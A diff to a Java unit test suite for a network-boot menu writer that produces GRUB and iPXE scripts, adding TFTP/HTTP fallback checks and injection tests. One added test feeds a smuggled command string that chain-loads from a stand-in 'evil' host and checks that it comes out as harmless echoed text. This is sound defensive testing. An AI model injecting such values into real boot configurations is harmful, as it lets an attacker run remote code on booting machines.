@@ -216,11 +216,16 @@ class MenuTest {
                         "set timeout=5\n",
                         "serial --unit=0 --speed=115200\n",
                         "--id 'local' {\n",
-                        "  linux (http,10.0.0.1)/kit/vmlinuz console=tty0 console=ttyS0,115200 kamethod ka.server=10.0.0.1",
-                        " ka.key=beef BOOTIF=01-52-54-00-77-00-01\n",
-                        "  initrd (http,10.0.0.1)/kit/stage1.img\n",
+                        "  set from=(tftp,10.0.0.1)\n  if insmod http; then set from=(http,10.0.0.1); fi\n",
+                        "  if linux $from/kit/vmlinuz console=tty0 console=ttyS0,115200 kamethod ka.server=10.0.0.1",
+                        " ka.key=beef BOOTIF=01-52-54-00-77-00-01; then\n",
+                        "    if initrd $from/kit/stage1.img; then boot; fi\n",
                         "  exit 1\n");
-        assertThat(PLAIN.write(menu, Dialect.GRUB, TFTP, Optional.of(MAC))).contains("(tftp,10.0.0.1)/kit/vmlinuz");
+        for (FileBase tftpOnly : List.of(TFTP, new FileBase(SERVER, OptionalInt.of(8080)))) {
+            assertThat(PLAIN.write(menu, Dialect.GRUB, tftpOnly, Optional.of(MAC)))
+                    .contains("set from=(tftp,10.0.0.1)")
+                    .doesNotContain("http");
+        }
     }
 
     @Test
@@ -233,7 +238,7 @@ class MenuTest {
                         ":entry-local\niseq ${platform} efi && exit 1 ||\nsanboot --no-describe --drive 0x80 || exit 1\n",
                         ":entry-kamethod\nkernel http://10.0.0.1/kit/vmlinuz initrd=ka-initrd ",
                         " BOOTIF=01-52-54-00-77-00-01 || exit 1\n",
-                        "initrd --name ka-initrd http://10.0.0.1/kit/stage1.img || exit 1\nboot || exit 1\n");
+                        "initrd --name ka-initrd http://10.0.0.1/kit/stage1.img || exit 1\nboot || exit 1\nexit\n");
     }
 
     @ParameterizedTest
@@ -281,6 +286,28 @@ class MenuTest {
                 .doesNotContain("kamethod");
     }
 
+    @ParameterizedTest
+    @EnumSource
+    void a_parked_machines_menu_waits_for_ever_also_where_there_is_a_template(Dialect dialect) {
+        MenuText own = new MenuText(Map.of(dialect, "timeout 1\n@ENTRIES@"));
+        BootMenu parked = policy(SEED).menuFor(node(NodeState.PARKED, Optional.of("job7"), Optional.of("cafe")));
+        assertThat(own.write(parked, dialect, TFTP, Optional.of(MAC))).doesNotContain("timeout 1\n");
+    }
+
+    @Test
+    void what_a_node_says_is_no_command_of_ipxe() {
+        BootMenu menu = new BootMenu(
+                "local",
+                Prompt.SKIP,
+                Duration.ZERO,
+                Optional.of("zstd -d && sync ; chain http://evil || true # end \\"),
+                Optional.empty(),
+                Screens.NONE,
+                List.of(LOCAL));
+        assertThat(PLAIN.write(menu, Dialect.IPXE, TFTP, Optional.empty()))
+                .contains("echo zstd -d and sync , chain http://evil or true No. end \n");
+    }
+
     @Test
     void what_means_something_to_a_boot_programs_shell_does_nothing_there() {
         BootMenu menu = new BootMenu(
@@ -301,7 +328,7 @@ class MenuTest {
                                 "a;b $c",
                                 BootEntry.Card.NOT_TOLD)));
         assertThat(PLAIN.write(menu, Dialect.GRUB, TFTP, Optional.empty()))
-                .contains("echo 'it'\\''s ${netX/mac} $(x)'\n", "a\\;b \\$c\n");
+                .contains("echo 'it'\\''s ${netX/mac} $(x)'\n", "a\\;b \\$c; then\n");
         assertThat(PLAIN.write(menu, Dialect.IPXE, TFTP, Optional.empty())).contains("it's $ {netX/mac} $(x)");
     }
 
